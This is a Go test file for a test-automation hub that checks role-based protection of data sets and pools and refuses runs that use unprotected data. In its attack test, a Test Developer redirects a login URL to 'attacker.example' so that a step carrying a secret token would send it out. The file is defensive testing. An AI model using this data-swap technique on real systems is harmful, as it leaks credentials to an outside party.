package api

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/testautomation/ta/hub/access"
	"github.com/testautomation/ta/protocol"
)

// dataRoutes are the two kinds of protected data: their list route, the
// key of the list and of their content in a body.
var dataRoutes = []struct{ kind, path, list, content string }{
	{"data set", "/api/test-data", "dataSets", "rows"},
	{"data pool", "/api/data-pools", "dataPools", "records"},
}

// listedProtected reads a list route as name → protected.
func listedProtected(t *testing.T, c *client, project, path, key string) map[string]bool {
	t.Helper()
	out := map[string]bool{}
	for _, e := range c.projectDo(project, "GET", path, nil).want(t, 200).json()[key].([]any) {
		m := e.(map[string]any)
		out[m["name"].(string)] = m["protected"].(bool)
	}
	return out
}

// Only Test Managers and Admins create a protected data set or pool, set
// or clear the flag, or change, reset or delete a protected one; a Test
// Developer gets 403 data_protected and nothing changes. Everyone sees the
// flag; an update without it keeps it.
func TestProtectedDataByRole(t *testing.T) {
	_, o := envHarness(t)
	mgr, dev, tester := o.members[access.TestManager], o.members[access.TestDeveloper], o.members[access.Tester]
	for _, d := range dataRoutes {
		t.Run(d.kind, func(t *testing.T) {
			table := func(name, v string, extra ...any) map[string]any {
				b := map[string]any{"name": name, "columns": []string{"loginUrl"}, d.content: []map[string]string{{"loginUrl": v}}}
				for i := 0; i+1 < len(extra); i += 2 {
					b[extra[i].(string)] = extra[i+1]
				}
				return b
			}
			r := dev.projectDo(o.project, "POST", d.path, table("Mine", "x", "protected", true)).want(t, 403)
			if r.str("code") != "data_protected" || !strings.Contains(r.str("error"), "Test Manager or Admin") {
				t.Errorf("a Test Developer's protected create: %s", r.body)
			}
			tester.projectDo(o.project, "POST", d.path, table("Mine", "x")).want(t, 403)
			r = mgr.projectDo(o.project, "POST", d.path, table("Prod logins", "https://shop.example.com/login", "protected", true)).want(t, 201)
			id := r.str("id")
			if r.json()["protected"] != true {
				t.Errorf("created %s", r.body)
			}
			plain := dev.projectDo(o.project, "POST", d.path, table("Staging logins", "x", "protected", false)).want(t, 201).str("id")
			for _, role := range access.Roles {
				if got := listedProtected(t, o.members[role], o.project, d.path, d.list); len(got) != 2 || !got["Prod logins"] || got["Staging logins"] {
					t.Errorf("%s lists %v", role, got)
				}
			}

			// A Test Developer changes nothing of a protected one.
			for what, body := range map[string]map[string]any{
				"a row":      table("Prod logins", "https://attacker.example/", "id", id),
				"its name":   {"id": id, "name": "Renamed"},
				"its flag":   {"id": id, "name": "Prod logins", "protected": false},
				"flag again": {"id": id, "name": "Prod logins", "protected": true},
			} {
				r := dev.projectDo(o.project, "POST", d.path, body).want(t, 403)
				if r.str("code") != "data_protected" || !strings.Contains(r.str("error"), `"Prod logins" is protected`) {
					t.Errorf("changing %s: %s", what, r.body)
				}
			}
			dev.do("DELETE", d.path+"/"+id, nil).want(t, 403)
			if d.kind == "data pool" {
				if r := dev.do("POST", d.path+"/"+id+"/reset", nil).want(t, 403); r.str("code") != "data_protected" {
					t.Errorf("reset: %s", r.body)
				}
			}
			got := mgr.do("GET", d.path+"/"+id, nil).want(t, 200).json()
			if got["name"] != "Prod logins" || got["protected"] != true || !strings.Contains(mustString(t, got), "https://shop.example.com/login") {
				t.Errorf("refused changes changed it: %v", got)
			}
			// A Test Developer may not mark one protected either.
			dev.projectDo(o.project, "POST", d.path, map[string]any{"id": plain, "name": "Staging logins", "protected": true}).want(t, 403)
			dev.projectDo(o.project, "POST", d.path, map[string]any{"id": plain, "name": "Staging logins", "protected": false}).want(t, 200)

			// Bad flags are 422; an update without the flag keeps it.
			r = mgr.projectDo(o.project, "POST", d.path, map[string]any{"id": id, "name": "Prod logins", "protected": "yes"}).want(t, 422)
			if p := envIssuePaths(t, r); len(p) != 1 || p[0] != "protected:type" {
				t.Errorf("issues %v", p)
			}
			if r := mgr.projectDo(o.project, "POST", d.path, table("Prod logins", "https://shop.example.com/v2", "id", id)).want(t, 200); r.json()["protected"] != true {
				t.Errorf("an update without the flag: %s", r.body)
			}
			if d.kind == "data pool" {
				mgr.do("POST", d.path+"/"+id+"/reset", nil).want(t, 200)
			}
			// Cleared by a Test Manager, it is open to Test Developers again.
			mgr.projectDo(o.project, "POST", d.path, map[string]any{"id": id, "name": "Prod logins", "protected": false}).want(t, 200)
			dev.projectDo(o.project, "POST", d.path, map[string]any{"id": id, "name": "Open logins"}).want(t, 200)
			mgr.projectDo(o.project, "POST", d.path, map[string]any{"id": id, "name": "Open logins", "protected": true}).want(t, 200)
			mgr.do("DELETE", d.path+"/"+id, nil).want(t, 204)
		})
	}
}

func mustString(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// The attack of issue 26, finding 3: a Ready test bound to a data set a
// Test Developer may change. A Test Manager's run of it on a protected
// environment is refused (403 data_unprotected, nothing queued), as single
// run, with dataSetId, and in a batch. Once the Test Manager marks the set
// protected, the Test Developer can no longer change it and the run goes
// through with the Test Manager's rows. Pools likewise.
func TestProtectedDataAttack(t *testing.T) {
	h, o := envHarness(t)
	mgr, dev := o.members[access.TestManager], o.members[access.TestDeveloper]
	prod := protectedEnv(t, mgr, o.project, "Prod", true)
	open := protectedEnv(t, mgr, o.project, "Open", false)
	set := dev.projectDo(o.project, "POST", "/api/test-data", map[string]any{"name": "Logins", "columns": []string{"loginUrl"},
		"rows": []map[string]string{{"loginUrl": "https://shop.example.com/login"}}}).want(t, 201).str("id")
	other := dev.projectDo(o.project, "POST", "/api/test-data", map[string]any{"name": "Other", "columns": []string{"loginUrl"},
		"rows": []map[string]string{{"loginUrl": "https://shop.example.com/other"}}}).want(t, 201).str("id")
	test := dev.createTest(t, o.project, map[string]any{"name": "Sign in", "data": map[string]any{"set": set},
		"steps": []map[string]any{{"id": "s1", "type": "navigate", "url": "${loginUrl}?p=${secrets.TOKEN}"}}})
	mgr.do("PUT", "/api/tests/"+test, map[string]any{"status": "Ready"}).want(t, 200)
	// After Ready, the Test Developer points the row at their own page.
	dev.projectDo(o.project, "POST", "/api/test-data", map[string]any{"id": set, "name": "Logins", "columns": []string{"loginUrl"},
		"rows": []map[string]string{{"loginUrl": "https://attacker.example/"}}}).want(t, 200)

	before := countRuns(t, h)
	for name, body := range map[string]map[string]any{
		"bound set":   {"testId": test, "environmentId": prod},
		"dataSetId":   {"testId": test, "environmentId": prod, "dataSetId": other},
		"batch":       {"testIds": []string{test}, "environmentId": prod},
		"batch again": {"testIds": []string{test, test}, "environmentId": prod},
	} {
		r := mgr.projectDo(o.project, "POST", "/api/runs", body).want(t, 403)
		text := string(r.body)
		if r.str("code") != "data_unprotected" || !strings.Contains(text, `not protected, and environment \"Prod\" is`) ||
			!strings.Contains(text, "a Test Manager must mark it protected") {
			t.Errorf("%s: %s", name, r.body)
		}
		if !strings.Contains(text, `data set \"Logins\"`) && !strings.Contains(text, `data set \"Other\"`) {
			t.Errorf("%s does not name the data set: %s", name, r.body)
		}
	}
	if countRuns(t, h) != before {
		t.Fatal("a refused run was queued")
	}
	// An unprotected environment takes the same data as before.
	mgr.projectDo(o.project, "POST", "/api/runs", map[string]any{"testId": test, "environmentId": open}).want(t, 201)

	// The Test Manager takes the set over: protected, with their row.
	mgr.projectDo(o.project, "POST", "/api/test-data", map[string]any{"id": set, "name": "Logins", "protected": true, "columns": []string{"loginUrl"},
		"rows": []map[string]string{{"loginUrl": "https://shop.example.com/login"}}}).want(t, 200)
	r := dev.projectDo(o.project, "POST", "/api/test-data", map[string]any{"id": set, "name": "Logins", "columns": []string{"loginUrl"},
		"rows": []map[string]string{{"loginUrl": "https://attacker.example/"}}}).want(t, 403)
	if r.str("code") != "data_protected" {
		t.Errorf("the Test Developer's change of a protected set: %s", r.body)
	}
	runID := mgr.projectDo(o.project, "POST", "/api/runs", map[string]any{"testId": test, "environmentId": prod}).want(t, 201).str("runId")
	run := mgr.do("GET", "/api/runs/"+runID, nil).json()
	if rows, _ := json.Marshal(run["rows"]); !strings.Contains(string(rows), "https://shop.example.com/login") || strings.Contains(string(rows), "attacker") {
		t.Errorf("the run's rows %s", rows)
	}
	mgr.projectDo(o.project, "POST", "/api/runs", map[string]any{"testIds": []string{test}, "environmentId": prod}).want(t, 201)

	// A pool bound by the document: refused until it is protected.
	pool := dev.projectDo(o.project, "POST", "/api/data-pools", map[string]any{"name": "Cards", "columns": []string{"card"},
		"records": []map[string]string{{"card": "4111"}}}).want(t, 201).str("id")
	pooled := dev.createTest(t, o.project, map[string]any{"name": "Pay", "data": map[string]any{"pool": pool},
		"steps": []map[string]any{{"id": "s1", "type": "navigate", "url": "https://shop.example.com/pay?c=${card}&t=${secrets.TOKEN}"}}})
	mgr.do("PUT", "/api/tests/"+pooled, map[string]any{"status": "Ready"}).want(t, 200)
	before = countRuns(t, h)
	r = mgr.projectDo(o.project, "POST", "/api/runs", map[string]any{"testId": pooled, "environmentId": prod}).want(t, 403)
	if r.str("code") != "data_unprotected" || !strings.Contains(r.str("error"), `data pool "Cards" is not protected`) {
		t.Errorf("pool: %s", r.body)
	}
	r = mgr.projectDo(o.project, "POST", "/api/runs", map[string]any{"testIds": []string{pooled, test}, "environmentId": prod}).want(t, 403)
	if r.str("code") != "data_unprotected" || !strings.Contains(string(r.body), `"path":"testIds[0]"`) {
		t.Errorf("pool in a batch: %s", r.body)
	}
	if countRuns(t, h) != before {
		t.Fatal("a refused run was queued")
	}
	mgr.projectDo(o.project, "POST", "/api/data-pools", map[string]any{"id": pool, "name": "Cards", "protected": true}).want(t, 200)
	mgr.projectDo(o.project, "POST", "/api/runs", map[string]any{"testId": pooled, "environmentId": prod}).want(t, 201)
}

// The data rule is checked again at dispatch: a run queued while its data
// set or pool was protected ends error, without the agent being given the
// job or a pool record being taken, when a Test Manager cleared the flag
// meanwhile.
func TestProtectedDataCheckedAtDispatch(t *testing.T) {
	for _, tc := range []struct{ name, path, want string }{
		{"data set", "/api/test-data", `data set "Logins" is not protected`},
		{"data pool", "/api/data-pools", `data pool "Logins" is not protected`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h, o := envHarness(t)
			mgr := o.members[access.TestManager]
			env := protectedEnv(t, mgr, o.project, "Prod", true)
			content := "rows"
			if tc.path == "/api/data-pools" {
				content = "records"
			}
			data := mgr.projectDo(o.project, "POST", tc.path, map[string]any{"name": "Logins", "protected": true, "columns": []string{"loginUrl"},
				content: []map[string]string{{"loginUrl": "https://shop.example.com/login"}}}).want(t, 201).str("id")
			binding := map[string]any{"set": data}
			if tc.path == "/api/data-pools" {
				binding = map[string]any{"pool": data, "mode": "consume"}
			}
			id := mgr.createTest(t, o.project, map[string]any{"name": "Sign in", "data": binding,
				"steps": []map[string]any{{"id": "s1", "type": "navigate", "url": "${loginUrl}?t=${secrets.TOKEN}"}}})
			mgr.do("PUT", "/api/tests/"+id, map[string]any{"status": "Ready"}).want(t, 200)
			// No agent yet: the run waits in the queue while the flag goes.
			runID := mgr.projectDo(o.project, "POST", "/api/runs", map[string]any{"testId": id, "environmentId": env}).want(t, 201).str("runId")
			mgr.projectDo(o.project, "POST", tc.path, map[string]any{"id": data, "name": "Logins", "protected": false}).want(t, 200)
			a := h.rawAgent(t, mgr, "")
			run := mgr.waitStatus(t, runID, "error")
			if msg, _ := run["error"].(string); !strings.Contains(msg, tc.want) || !strings.Contains(msg, `environment "Prod" is`) {
				t.Errorf("run error %q", msg)
			}
			for {
				ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
				_, msg, err := a.ws.Read(ctx)
				cancel()
				if err != nil {
					break
				}
				var m protocol.Message
				_ = json.Unmarshal(msg, &m)
				if m.Type == protocol.MsgAssign || strings.Contains(string(msg), "protected-token-value") {
					t.Fatalf("the agent got %s", msg)
				}
			}
			if tc.path == "/api/data-pools" {
				if p := mgr.do("GET", tc.path+"/"+data, nil).want(t, 200).json(); num(p["free"]) != 1 {
					t.Errorf("a record was taken: %v", p)
				}
			}
		})
	}
}
